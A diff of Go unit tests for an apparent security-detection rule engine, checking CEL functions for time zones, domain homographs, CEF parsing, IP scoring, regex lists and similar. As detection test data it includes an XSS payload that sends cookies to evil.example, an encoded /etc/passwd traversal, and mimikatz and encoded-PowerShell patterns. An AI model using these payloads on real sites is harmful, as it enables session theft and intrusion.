+		{"utc", `weekday("login.ts", "UTC") == 0 && hour("login.ts", "UTC") == 2`, true},
+		{"earlier zone", `weekday("login.ts", "America/New_York") == 6 && hour("login.ts", "America/New_York") == 22`, true},
+		{"later zone", `weekday("login.ts", "Asia/Tokyo") == 0 && hour("login.ts", "Asia/Tokyo") == 11`, true},
+		{"epoch", `weekday("login.epoch", "UTC") == 0 && hour("login.epoch", "UTC") == 2`, true},
+		{"unknown zone", `weekday("login.ts", "Mars/Olympus") == 0 && hour("login.ts", "Mars/Olympus") == 2`, true},
+		{"invalid timestamp", `weekday("bad", "UTC") == -1 && hour("bad", "UTC") == -1`, true},
+		{"missing", `weekday("missing", "UTC") == -1 && hour("missing", "UTC") == -1`, true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := Evaluate(&data, tt.expression)
+			assert.NoError(t, err)
+			assert.Equal(t, tt.want, got)
+		})
+	}
+}
+
+func TestWeekendHoliday(t *testing.T) {
+	RegisterHolidays("es", []string{"2024-12-25", "2024-01-06", "not a date"})
+	defer func() {
+		holidayListsMutex.Lock()
+		delete(holidayLists, "es")
+		holidayListsMutex.Unlock()
+	}()
+
+	// 2024-05-05 is a Sunday, 2024-12-25 a Wednesday
+	data := `{"sunday":"2024-05-05T02:30:00Z","christmas":"2024-12-25T10:00:00+01:00","eve":"2024-12-24T23:30:00-02:00","epoch":1735120800,"bad":"yesterday"}`
+
+	tests := []struct {
+		name       string
+		expression string
+		want       bool
+		wantErr    bool
+	}{
+		{"weekend", `is_weekend("sunday", "UTC") && is_weekend("sunday", "Asia/Tokyo")`, true, false},
+		{"earlier zone", `is_weekend("sunday", "America/Los_Angeles")`, true, false},
+		{"weekday", `is_weekend("christmas", "UTC")`, false, false},
+		{"invalid timestamp", `is_weekend("bad", "UTC") || is_weekend("missing", "UTC")`, false, false},
+		{"holiday", `is_holiday("christmas", "es") && is_holiday("epoch", "es")`, true, false},
+		{"holiday in the offset of the timestamp", `is_holiday("eve", "es")`, false, false},
+		{"invalid holiday timestamp", `is_holiday("bad", "es") || is_holiday("missing", "es")`, false, false},
+		{"unknown list", `is_holiday("christmas", "unknown")`, false, true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := Evaluate(&data, tt.expression)
+			if tt.wantErr {
+				assert.ErrorContains(t, err, "unknown holiday list")
+				return
+			}
+
+			assert.NoError(t, err)
+			assert.Equal(t, tt.want, got)
+		})
+	}
+}
+
+func TestDomainIDNA(t *testing.T) {
+	data := `{"homograph":"\u0430pple.com","punycode":"xn--pple-43d.com","unicode":"B\u00fccher.DE","ascii":"Example.com","invalid":"-bad-.com","broken":"xn--zz.com"}`
+
+	tests := []struct {
+		name       string
+		expression string
+		want       bool
+	}{
+		{"homograph", `domain_ascii("homograph") == "xn--pple-43d.com" && domain_ascii("homograph") != "apple.com"`, true},
+		{"punycode", `domain_unicode("punycode") == safe("homograph", "")`, true},
+		{"round trip", `domain_ascii("unicode") == "xn--bcher-kva.de" && domain_unicode("unicode") == "bücher.de"`, true},
+		{"ascii", `domain_ascii("ascii") == "example.com" && domain_unicode("ascii") == "example.com"`, true},
+		{"invalid", `domain_ascii("invalid") == "" && domain_unicode("broken") == ""`, true},
+		{"missing", `domain_ascii("missing") == "" && domain_unicode("missing") == ""`, true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := Evaluate(&data, tt.expression)
+			assert.NoError(t, err)
+			assert.Equal(t, tt.want, got)
+		})
+	}
+}
+
+func TestFileTypes(t *testing.T) {
+	data := `{"attachment":{"name":"Invoice.PDF.exe"},"script":"C:\\Users\\bob\\run.PS1","doc":"/tmp/report.docm","archive":"backup.tar.gz","hidden":"/home/bob/.bashrc","noext":"README","dir":"a.b/file"}`
+
+	tests := []struct {
+		name       string
+		expression string
+		want       bool
+	}{
+		{"double extension", `file_ext("attachment.name") == "exe" && file_category("attachment.name") == "executable"`, true},
+		{"windows path", `file_ext("script") == "ps1" && file_category("script") == "script"`, true},
+		{"document", `file_category("doc") == "document"`, true},
+		{"archive", `file_ext("archive") == "gz" && file_category("archive") == "archive"`, true},
+		{"hidden file", `file_ext("hidden") == "" && file_category("hidden") == "other"`, true},
+		{"no extension", `file_ext("noext") == "" && file_ext("dir") == ""`, true},
+		{"missing", `file_ext("missing") == "" && file_category("missing") == "other"`, true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := Evaluate(&data, tt.expression)
+			assert.NoError(t, err)
+			assert.Equal(t, tt.want, got)
+		})
+	}
+}
+
+func TestOverlap(t *testing.T) {
+	data := `{"req":{"param":"<script>alert(1)</script>"},"resp":{"body":"<p>Results for <script>alert(1)</script></p>"},` +
+		`"other":"<p>No match.</p>","empty":"","accents":"café crème","mixed":"crème brûlée"}`
+
+	tests := []struct {
+		name       string
+		expression string
+		want       bool
+	}{
+		{"reflected", `overlap("req.param", "resp.body") == 25 && overlap_ratio("req.param", "resp.body") == 1.0`, true},
+		{"symmetric", `overlap("resp.body", "req.param") == overlap("req.param", "resp.body")`, true},
+		{"partial", `overlap("other", "resp.body") == 4 && overlap_ratio("other", "resp.body") == 0.25`, true},
+		{"characters", `overlap("accents", "mixed") == 5`, true},
+		{"empty", `overlap("empty", "resp.body") == 0 && overlap_ratio("empty", "resp.body") == 0.0`, true},
+		{"missing", `overlap("missing", "resp.body") == 0 && overlap_ratio("resp.body", "missing") == 0.0`, true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := Evaluate(&data, tt.expression)
+			assert.NoError(t, err)
+			assert.Equal(t, tt.want, got)
+		})
+	}
+
+	t.Run("large body", func(t *testing.T) {
+		param := "<script>document.location='https://evil.example/?c='+document.cookie</script>"
+		filler := strings.Repeat("<p>lorem ipsum dolor sit amet</p>", 1<<19/33)
+		body := filler + param + filler
+		large := fmt.Sprintf(`{"resp":{"body":%q},"req":{"param":%q}}`, body, param)
+
+		var before, after runtime.MemStats
+		runtime.ReadMemStats(&before)
+		start := time.Now()
+
+		got, err := Evaluate(&large, `overlap("resp.body", "req.param") == size(safe("req.param", "")) && `+
+			`overlap_ratio("resp.body", "req.param") == 1.0 && overlap("resp.body", "resp.body") == 65536`)
+
+		elapsed := time.Since(start)
+		runtime.ReadMemStats(&after)
+
+		require.NoError(t, err)
+		assert.True(t, got)
+		// Generous enough for the race detector, a quadratic comparison would take hours
+		assert.Less(t, elapsed, 10*time.Second)
+		assert.Less(t, after.TotalAlloc-before.TotalAlloc, uint64(64<<20))
+	})
+
+	for _, tt := range []struct {
+		a, b string
+		want int
+	}{
+		{"abcabxabcd", "xabcdabc", 5},
+		{"aaaa", "aa", 2},
+		{"abab", "baba", 3},
+		{"abc", "def", 0},
+		{"mississippi", "sissy", 4},
+	} {
+		assert.Equal(t, tt.want, longestCommonSubstring(tt.a, tt.b), "%s %s", tt.a, tt.b)
+	}
+}
+
+func TestCharRatio(t *testing.T) {
+	data := `{"dga":"x7k2q9z1","name":"ABcd12!?","word":"banana","unicode":"ÁÉío","empty":""}`
+
+	tests := []struct {
+		name       string
+		expression string
+		want       bool
+	}{
+		{"digits", `char_ratio("dga", "digit") == 0.5`, true},
+		{"upper", `char_ratio("name", "upper") == 0.25`, true},
+		{"special", `char_ratio("name", "special") == 0.25`, true},
+		{"vowels", `char_ratio("word", "vowel") == 0.5 && char_ratio("dga", "vowel") == 0.0`, true},
+		{"runes", `char_ratio("unicode", "upper") == 0.5`, true},
+		{"empty", `char_ratio("empty", "digit") == 0.0 && char_ratio("missing", "digit") == 0.0`, true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := Evaluate(&data, tt.expression)
+			assert.NoError(t, err)
+			assert.Equal(t, tt.want, got)
+		})
+	}
+
+	_, err := Evaluate(&data, `char_ratio("dga", "lower") > 0.0`)
+	assert.Error(t, err)
+}
+
+func TestURLDecode(t *testing.T) {
+	data := `{"path":"/static/%2e%2e%2fetc/passwd","query":"q=a+b%26c","plus":"a+b","bad":"100%","plain":"/index.html"}`
+
+	tests := []struct {
+		name       string
+		expression string
+		want       bool
+	}{
+		{"traversal", `url_decode("path").contains("../")`, true},
+		{"encoded not decoded", `safe("path", "").contains("../")`, false},
+		{"plus kept in path", `url_decode("plus") == "a+b"`, true},
+		{"query plus", `query_decode("plus") == "a b"`, true},
+		{"query", `query_decode("query") == "q=a b&c"`, true},
+		{"invalid encoding", `url_decode("bad") == "100%" && query_decode("bad") == "100%"`, true},
+		{"plain", `url_decode("plain") == "/index.html"`, true},
+		{"missing field", `url_decode("missing") == "" && query_decode("missing") == ""`, true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := Evaluate(&data, tt.expression)
+			assert.NoError(t, err)
+			assert.Equal(t, tt.want, got)
+		})
+	}
+}
+
+func TestBase64(t *testing.T) {
+	data := `{"txt":"aGVsbG8gd29ybGQsIGhlbGxvIHdvcmxk","padded":"aGVsbG8gd29ybGQhIQ==","short":"aGVsbG8=","host":"server01","unpadded":"aGVsbG8gd29ybGQhIQ","charset":"aGVsbG8gd29y*GQhIQ=="}`
+
+	tests := []struct {
+		name       string
+		expression string
+		want       bool
+	}{
+		{"valid", `is_base64(safe("txt", "")) && b64_len(safe("txt", "")) == 24`, true},
+		{"padded", `is_base64(safe("padded", "")) && b64_len(safe("padded", "")) == 13`, true},
+		{"too short", `is_base64(safe("short", "")) || b64_len(safe("short", "")) != 0`, false},
+		{"hostname", `is_base64(safe("host", ""))`, false},
+		{"missing padding", `is_base64(safe("unpadded", "")) || b64_len(safe("unpadded", "")) != 0`, false},
+		{"invalid charset", `is_base64(safe("charset", ""))`, false},
+		{"missing field", `is_base64(safe("missing", "")) || b64_len(safe("missing", "")) != 0`, false},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := Evaluate(&data, tt.expression)
+			assert.NoError(t, err)
+			assert.Equal(t, tt.want, got)
+		})
+	}
+}
+
+func TestFirstPath(t *testing.T) {
+	data := `{"source":{"port":22,"user":{"name":"alice"}},"dst":"10.0.0.1","empty":"","tags":["a","b"],"nothing":null}`
+
+	tests := []struct {
+		name       string
+		expression string
+		want       bool
+	}{
+		{"number", `first_path("src.port", "source.port", 0) == 22.0`, true},
+		{"string", `first_path("destination", "dst", "") == "10.0.0.1"`, true},
+		{"object", `first_path("user", "source.user", {}).name == "alice"`, true},
+		{"array", `size(first_path("labels", "tags", [])) == 2`, true},
+		{"empty string exists", `first_path("empty", "dst", "default") == ""`, true},
+		{"null exists", `first_path("nothing", "dst", "default") == null`, true},
+		{"three paths", `first_path("a", "b", "dst", "") == "10.0.0.1"`, true},
+		{"four paths", `first_path("a", "b", "c", "source.port", 0) == 22.0`, true},
+		{"list", `first_path(["a", "b", "dst"], "") == "10.0.0.1"`, true},
+		{"list order", `first_path(["dst", "source.port"], "") == "10.0.0.1"`, true},
+		{"default", `first_path("a", "b", "none") == "none"`, true},
+		{"empty list", `first_path([], 5) == 5`, true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := Evaluate(&data, tt.expression)
+			assert.NoError(t, err)
+			assert.Equal(t, tt.want, got)
+		})
+	}
+}
+
+func TestCEF(t *testing.T) {
+	data := `{
+		"cef":"<134>Oct 11 22:14:15 fw01 CEF:0|Security|threat\\|manager|1.0|100|worm successfully stopped|10|src=10.0.0.1 dst=2.1.2.2 msg=Detected a threat. No action needed cs1=a\\=b cs2=C:\\\\temp",
+		"broken":"CEF:0|Security|threatmanager",
+		"plain":"not a cef message",
+		"syslog":"<131>Oct 11 22:14:15 host app: failed",
+		"kernel":"<0>panic",
+		"badpri":"<192>out of range",
+		"nopri":"Oct 11 22:14:15 host app"
+	}`
+
+	tests := []struct {
+		name       string
+		expression string
+		want       bool
+	}{
+		{"extension", `cef_field("cef", "src") == "10.0.0.1"`, true},
+		{"extension with spaces", `cef_field("cef", "msg") == "Detected a threat. No action needed"`, true},
+		{"escaped equals", `cef_field("cef", "cs1") == "a=b"`, true},
+		{"escaped backslash", `cef_field("cef", "cs2") == "C:\\temp"`, true},
+		{"header", `cef_field("cef", "name") == "worm successfully stopped"`, true},
+		{"escaped pipe", `cef_field("cef", "deviceProduct") == "threat|manager"`, true},
+		{"severity", `int(cef_field("cef", "severity")) >= 7`, true},
+		{"missing key", `cef_field("cef", "missing") == ""`, true},
+		{"incomplete header", `cef_field("broken", "deviceVendor") == ""`, true},
+		{"not cef", `cef_field("plain", "src") == ""`, true},
+		{"missing field", `cef_field("missing", "src") == ""`, true},
+		{"syslog severity", `syslog_severity("syslog") == 3`, true},
+		{"emergency", `syslog_severity("kernel") == 0`, true},
+		{"out of range", `syslog_severity("badpri") == -1`, true},
+		{"no priority", `syslog_severity("nopri") == -1`, true},
+		{"syslog missing", `syslog_severity("missing") == -1`, true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := Evaluate(&data, tt.expression)
+			assert.NoError(t, err)
+			assert.Equal(t, tt.want, got)
+		})
+	}
+}
+
+func TestCEFLargeExtension(t *testing.T) {
+	header := "CEF:0|Security|threatmanager|1.0|100|worm successfully stopped|10|"
+
+	var pairs strings.Builder
+	for i := 0; i < 100000; i++ {
+		_, _ = fmt.Fprintf(&pairs, "k%d=v%d ", i, i)
+	}
+
+	tests := []struct {
+		name  string
+		msg   string
+		check func(t *testing.T, fields map[string]string)
+	}{
+		{"many pairs", header + pairs.String(), func(t *testing.T, fields map[string]string) {
+			assert.Equal(t, "v0", fields["k0"])
+			assert.Equal(t, "v99999", fields["k99999"])
+		}},
+		{"many equals without spaces", header + "msg=" + strings.Repeat("=", 200000), func(t *testing.T, fields map[string]string) {
+			assert.Len(t, fields["msg"], 200000)
+		}},
+		{"many equals after a space", header + "msg=x " + strings.Repeat("a=", 200000), func(t *testing.T, fields map[string]string) {
+			assert.Equal(t, "x", fields["msg"])
+		}},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			start := time.Now()
+			fields, ok := parseCEF(tt.msg)
+			elapsed := time.Since(start)
+
+			require.True(t, ok)
+			tt.check(t, fields)
+			assert.Less(t, elapsed, 2*time.Second)
+		})
+	}
+}
+
+func TestCorrKey(t *testing.T) {
+	data := `{"src":{"ip":"10.0.0.1"},"dst":{"ip":"10.0.0.2","port":443},"host":" Web-01 ","other":"web-01"}`
+
+	sum := sha256.Sum256([]byte("10.0.0.1\x1f10.0.0.2\x1f443"))
+	expected := hex.EncodeToString(sum[:])[:16]
+
+	tests := []struct {
+		name       string
+		expression string
+		want       bool
+	}{
+		{"length", `size(corr_key("src.ip", "dst.ip", "dst.port")) == 16`, true},
+		{"deterministic", `corr_key("src.ip", "dst.ip", "dst.port") == corr_key("src.ip", "dst.ip", "dst.port")`, true},
+		{"list form", `corr_key(["src.ip", "dst.ip", "dst.port"]) == corr_key("src.ip", "dst.ip", "dst.port")`, true},
+		{"order matters", `corr_key("src.ip", "dst.ip") != corr_key("dst.ip", "src.ip")`, true},
+		{"normalized", `corr_key("host") == corr_key("other")`, true},
+		{"missing keeps position", `corr_key("missing", "src.ip") != corr_key("src.ip", "missing")`, true},
+		{"separator", `corr_key("src.ip", "missing") != corr_key("src.ip")`, true},
+		{"six fields", `size(corr_key("a", "b", "c", "d", "e", "src.ip")) == 16`, true},
+		{"stable", `corr_key("src.ip", "dst.ip", "dst.port") == "` + expected + `"`, true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := Evaluate(&data, tt.expression)
+			assert.NoError(t, err)
+			assert.Equal(t, tt.want, got)
+		})
+	}
+}
+
+func TestMacOUI(t *testing.T) {
+	defer currentOUIDB.Store(nil)
+
+	data := `{"colon":"00:1c:b3:aa:bb:cc","dash":"00-1C-B3-AA-BB-CC","cisco":"001c.b3aa.bbcc","bare":"3C22FBAABBCC","eui64":"00:1c:b3:ff:fe:aa:bb:cc","unknown":"02:00:00:aa:bb:cc","bad":"00:1c:b3","num":42}`
+
+	got, err := Evaluate(&data, `mac_vendor("colon") == ""`)
+	require.NoError(t, err)
+	assert.True(t, got)
+
+	file := filepath.Join(t.TempDir(), "oui.txt")
+	require.NoError(t, os.WriteFile(file, []byte("OUI/MA-L\t\t\tOrganization\n"+
+		"00-1C-B3   (hex)\t\tApple, Inc.\n"+
+		"001CB3     (base 16)\t\tApple, Inc.\n"+
+		"\t\t\t\tCupertino  CA  95014\n\n"+
+		"3C22FB,Apple, Inc.\n"), 0o644))
+	require.NoError(t, LoadOUIDB(file))
+
+	assert.Error(t, LoadOUIDB(filepath.Join(t.TempDir(), "missing.txt")))
+
+	tests := []struct {
+		name       string
+		expression string
+		want       bool
+	}{
+		{"colon", `mac_oui("colon") == "00:1C:B3" && mac_vendor("colon") == "Apple, Inc."`, true},
+		{"dash", `mac_oui("dash") == "00:1C:B3"`, true},
+		{"cisco", `mac_oui("cisco") == "00:1C:B3"`, true},
+		{"bare", `mac_oui("bare") == "3C:22:FB" && mac_vendor("bare") == "Apple, Inc."`, true},
+		{"eui64", `mac_vendor("eui64") == "Apple, Inc."`, true},
+		{"unknown vendor", `mac_oui("unknown") == "02:00:00" && mac_vendor("unknown") == ""`, true},
+		{"invalid", `mac_oui("bad") == "" && mac_vendor("bad") == "" && mac_oui("num") == ""`, true},
+		{"missing", `mac_oui("missing") == "" && mac_vendor("missing") == ""`, true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := Evaluate(&data, tt.expression)
+			assert.NoError(t, err)
+			assert.Equal(t, tt.want, got)
+		})
+	}
+}
+
+func TestIPScore(t *testing.T) {
+	defer currentIPScores.Store(nil)
+
+	data := `{"a":"203.0.113.7","b":"198.51.100.9","c":"198.51.100.200","d":"2001:db8::1","e":"8.8.8.8","f":"::ffff:203.0.113.7","g":"bad"}`
+
+	got, err := Evaluate(&data, `ip_score(safe("a", "")) == -1`)
+	require.NoError(t, err)
+	assert.True(t, got)
+
+	require.NoError(t, RegisterIPScores(map[string]int{
+		"203.0.113.7":       95,
+		"198.51.100.0/24":   40,
+		"198.51.100.128/25": 70,
+		"2001:db8::/32":     10,
+	}))
+
+	assert.Error(t, RegisterIPScores(map[string]int{"not-an-ip": 10}))
+
+	tests := []struct {
+		name       string
+		expression string
+		want       bool
+	}{
+		{"exact ip", `ip_score(safe("a", "")) == 95`, true},
+		{"cidr", `ip_score(safe("b", "")) == 40`, true},
+		{"most specific cidr", `ip_score(safe("c", "")) == 70`, true},
+		{"ipv6 cidr", `ip_score(safe("d", "")) == 10`, true},
+		{"mapped ipv4", `ip_score(safe("f", "")) == 95`, true},
+		{"threshold", `ip_score(safe("a", "")) > 80`, true},
+		{"unknown", `ip_score(safe("e", "")) == -1`, true},
+		{"invalid", `ip_score(safe("g", "")) == -1`, true},
+		{"missing", `ip_score(safe("missing", "")) == -1`, true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := Evaluate(&data, tt.expression)
+			assert.NoError(t, err)
+			assert.Equal(t, tt.want, got)
+		})
+	}
+}
+
+func TestCheckExpressionAgainstSample(t *testing.T) {
+	sample := `{"user":{"name":"alice","roles":["admin"]},"action":"login","src":{"ip":"10.0.0.1"}}`
+
+	tests := []struct {
+		name       string
+		expression string
+		want       []string
+	}{
+		{"all present", `user.name == "alice" && action == "login"`, []string{}},
+		{"typo in variable", `acton == "login"`, []string{"acton"}},
+		{"typo in field", `user.nme == "alice" && src.ip != ""`, []string{"user.nme"}},
+		{"nested missing", `dst.geo.country == "US"`, []string{"dst.geo.country"}},
+		{"has only needs parent", `has(user.email) && has(dst.port)`, []string{"dst"}},
+		{"macro variables", `user.roles.exists(r, r == "admin") && [1, 2].all(x, x > 0)`, []string{}},
+		{"type names", `type(action) == string`, []string{}},
+		{"gjson functions", `safe("missing.path", "") == "" && exists("other")`, []string{}},
+		{"sorted and unique", `zeta == 1 || alpha == 2 || zeta == 3`, []string{"alpha", "zeta"}},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			missing, err := CheckExpressionAgainstSample(tt.expression, &sample)
+			require.NoError(t, err)
+			assert.Equal(t, tt.want, missing)
+		})
+	}
+
+	_, err := CheckExpressionAgainstSample(`user.name ==`, &sample)
+	assert.Error(t, err)
+
+	invalid := `[1, 2]`
+	_, err = CheckExpressionAgainstSample(`action == "login"`, &invalid)
+	assert.Error(t, err)
+}
+
+func TestPortClass(t *testing.T) {
+	data := `{"ssh":22,"top":1023,"mysql":3306,"last":49151,"high":"52100","max":65535,"over":70000,"neg":-1,"float":80.5,"name":"http"}`
+
+	tests := []struct {
+		name       string
+		expression string
+		want       bool
+	}{
+		{"well-known", `port_class("ssh") == "well-known" && is_well_known("ssh")`, true},
+		{"well-known upper bound", `port_class("top") == "well-known" && is_well_known("top")`, true},
+		{"registered", `port_class("mysql") == "registered" && !is_well_known("mysql")`, true},
+		{"registered upper bound", `port_class("last") == "registered"`, true},
+		{"ephemeral string", `port_class("high") == "ephemeral"`, true},
+		{"ephemeral upper bound", `port_class("max") == "ephemeral"`, true},
+		{"out of range", `port_class("over") == "invalid" && !is_well_known("over")`, true},
+		{"negative", `port_class("neg") == "invalid" && !is_well_known("neg")`, true},
+		{"not an integer", `port_class("float") == "invalid" && !is_well_known("float")`, true},
+		{"not numeric", `port_class("name") == "invalid" && !is_well_known("name")`, true},
+		{"missing", `port_class("missing") == "invalid" && !is_well_known("missing")`, true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := Evaluate(&data, tt.expression)
+			assert.NoError(t, err)
+			assert.Equal(t, tt.want, got)
+		})
+	}
+}
+
+func TestDataSizes(t *testing.T) {
+	data := `{"bytes":12000000,"quota":{"value":2,"unit":"GB"},"small":512,"size":1572864,"exact":10485760,"huge":1125899906842624,"neg":-1,"text":"10MB"}`
+
+	tests := []struct {
+		name       string
+		expression string
+		want       bool
+	}{
+		{"literal", `to_bytes(10, "MB") == 10485760.0`, true},
+		{"threshold", `safe("bytes", 0.0) > to_bytes(10, "MB")`, true},
+		{"double", `to_bytes(1.5, "kb") == 1536.0`, true},
+		{"iec alias", `to_bytes(1, "GiB") == to_bytes(1, "GB")`, true},
+		{"field", `to_bytes("quota.value", "GB") == 2147483648.0`, true},
+		{"unknown unit", `to_bytes(10, "furlongs") == 0.0`, true},
+		{"non-numeric field", `to_bytes("text", "MB") == 0.0`, true},
+		{"missing field", `to_bytes("missing", "MB") == 0.0`, true},
+		{"human", `human_bytes("size") == "1.5 MB"`, true},
+		{"human bytes", `human_bytes("small") == "512 B"`, true},
+		{"human whole", `human_bytes("exact") == "10 MB"`, true},
+		{"human largest unit", `human_bytes("huge") == "1 PB"`, true},
+		{"human negative", `human_bytes("neg") == ""`, true},
+		{"human non-numeric", `human_bytes("text") == ""`, true},
+		{"human missing", `human_bytes("missing") == ""`, true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := Evaluate(&data, tt.expression)
+			assert.NoError(t, err)
+			assert.Equal(t, tt.want, got)
+		})
+	}
+}
+
+func TestRuleEnabled(t *testing.T) {
+	data := `{"tenant":"t1","other":"t2","unknown":"t9"}`
+
+	_, err := Evaluate(&data, `rule_enabled(1, "tenant")`)
+	assert.Error(t, err)
+
+	c := &Config{
+		DisabledRules: []uint64{1},
+		Tenants: []*Tenant{
+			{Id: "t1", DisabledRules: []uint64{2}},
+			{Id: "t2"},
+		},
+	}
+	currentCfgSnapshot.Store(&cfgSnapshot{cfg: c})
+	defer currentCfgSnapshot.Store(nil)
+
+	tests := []struct {
+		name       string
+		expression string
+		want       bool
+	}{
+		{"disabled globally", `rule_enabled(1, "tenant") || rule_enabled(1, "other") || rule_enabled(1, "unknown")`, false},
+		{"disabled for tenant", `rule_enabled(2, "tenant")`, false},
+		{"enabled for other tenant", `rule_enabled(2, "other")`, true},
+		{"unknown tenant", `rule_enabled(2, "unknown")`, true},
+		{"missing tenant field", `rule_enabled(2, "missing") && !rule_enabled(1, "missing")`, true},
+		{"enabled", `rule_enabled(3, "tenant")`, true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := Evaluate(&data, tt.expression)
+			assert.NoError(t, err)
+			assert.Equal(t, tt.want, got)
+		})
+	}
+}
+
+func TestReList(t *testing.T) {
+	data := `{"cmd":"powershell -enc SQBFAFgA -nop","user":"admin"}`
+
+	tests := []struct {
+		name       string
+		expression string
+		want       bool
+	}{
+		{"any matches", `re_any("cmd", ["mimikatz", "(?i)-EnC\\s"])`, true},
+		{"any no match", `re_any("cmd", ["mimikatz", "sekurlsa"])`, false},
+		{"all match", `re_all("cmd", ["^powershell", "-nop$"])`, true},
+		{"all partial", `re_all("cmd", ["^powershell", "mimikatz"])`, false},
+		{"empty list", `!re_any("cmd", []) && re_all("cmd", [])`, true},
+		{"missing field", `re_any("missing", ["^$"])`, true},
+		{"computed patterns", `re_any("cmd", [safe("user", "") + "|powershell"])`, true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := Evaluate(&data, tt.expression)
+			assert.NoError(t, err)
+			assert.Equal(t, tt.want, got)
+		})
+	}
+
+	invalid := []string{
+		`re_any("cmd", ["powershell", "("])`,
+		`re_all("cmd", ["mimikatz", "[a-"])`,
+		`re_any("cmd", [safe("user", "") + "("])`,
+	}
+
+	for _, expression := range invalid {
+		_, err := Evaluate(&data, expression)
+		assert.Error(t, err, expression)
+	}
+}
+
+func TestReListValidation(t *testing.T) {
+	env, err := cel.NewEnv(reList(new(string), "re_any", false))
+	require.NoError(t, err)
+
+	_, issues := env.Compile(`re_any("cmd", ["powershell", "("])`)
+	require.Error(t, issues.Err())
+	assert.Contains(t, issues.Err().Error(), `invalid re_any pattern "("`)
+
+	_, issues = env.Compile(`re_any("cmd", ["powershell", "mimikatz"])`)
+	assert.NoError(t, issues.Err())
+}
+
+func TestChanged(t *testing.T) {
+	data := `{"config":{"hash":"abc","port":443,"ratio":0.5,"debug":false,"users":["a","b"],"tls":{"min":"1.2"}},"empty":null,"baseline":{"hash":"abc","port":80}}`
+
+	tests := []struct {
+		name       string
+		expression string
+		want       bool
+	}{
+		{"same string", `changed("config.hash", {"hash": "abc"}, "hash")`, false},
+		{"different string", `changed("config.hash", {"hash": "abd"}, "hash")`, true},
+		{"int and double", `changed("config.port", {"port": 443.0}, "port") || changed("config.port", {"port": 443}, "port")`, false},
+		{"double", `changed("config.ratio", {"ratio": 0.5}, "ratio")`, false},
+		{"number and string", `changed("config.port", {"port": "443"}, "port")`, true},
+		{"bool", `changed("config.debug", {"debug": false}, "debug") || !changed("config.debug", {"debug": true}, "debug")`, false},
+		{"list", `changed("config.users", {"users": ["a", "b"]}, "users") || !changed("config.users", {"users": ["b", "a"]}, "users")`, false},
+		{"object", `changed("config.tls", {"tls": {"min": "1.2"}}, "tls") || !changed("config.tls", {"tls": {"min": "1.3"}}, "tls")`, false},
+		{"missing key", `changed("config.hash", {"other": "abc"}, "hash")`, true},
+		{"missing field", `changed("missing", {"hash": "abc"}, "hash")`, true},
+		{"both missing", `changed("missing", {"other": "abc"}, "hash")`, false},
+		{"null and missing", `changed("empty", {"hash": null}, "hash") || changed("missing", {"hash": null}, "hash")`, false},
+		{"baseline field", `!changed("config.hash", baseline, "hash") && changed("config.port", baseline, "port")`, true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := Evaluate(&data, tt.expression)
+			assert.NoError(t, err)
+			assert.Equal(t, tt.want, got)
+		})
+	}
+
+	// Baselines maintained by the caller are bound as variables, replacing the fields of the data
+	external := map[string]any{"baseline": map[string]any{"hash": "abd", "port": 443.0, "users": []any{"a", "b"}}}
+
+	got, err := EvaluateWithVars(&data, `changed("config.hash", baseline, "hash") && !changed("config.port", baseline, "port") && `+
+		`!changed("config.users", baseline, "users")`, external)
+	require.NoError(t, err)
+	assert.True(t, got)
+
+	event := `{"config":{"hash":"abc"}}`
+
+	got, err = EvaluateWithVars(&event, `!changed("config.hash", expected, "hash")`, map[string]any{"expected": map[string]any{"hash": "abc"}})
+	require.NoError(t, err)
+	assert.True(t, got)
+
+	_, err = EvaluateWithVars(&event, `changed("config.hash", expected, "hash")`, nil)
+	assert.Error(t, err)
+}
+
+func TestJoinField(t *testing.T) {
+	data := `{"dns":{"answers":["10.0.0.1","10.0.0.2"]},"mixed":[1,true,null,{"a":1},"x"],"empty":[],"name":"host"}`
+
+	tests := []struct {
+		name       string
+		expression string
+		want       bool
+	}{
+		{"strings", `join_field("dns.answers", ",") == "10.0.0.1,10.0.0.2"`, true},
+		{"mixed", `join_field("mixed", "|") == "1|true||{\"a\":1}|x"`, true},
+		{"empty separator", `join_field("dns.answers", "") == "10.0.0.110.0.0.2"`, true},
+		{"empty array", `join_field("empty", ",") == ""`, true},
+		{"not an array", `join_field("name", ",") == ""`, true},
+		{"missing", `join_field("missing", ",") == ""`, true},
+		{"searchable", `join_field("dns.answers", ",").contains("10.0.0.2")`, true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := Evaluate(&data, tt.expression)
+			assert.NoError(t, err)
+			assert.Equal(t, tt.want, got)
+		})
+	}
+}
+
+func TestMapEval(t *testing.T) {
+	data := `{"procs":[{"name":"a","cpu":95},{"name":"b","cpu":10},{"name":"c"},"bad"],"empty":[],"name":"host"}`
+
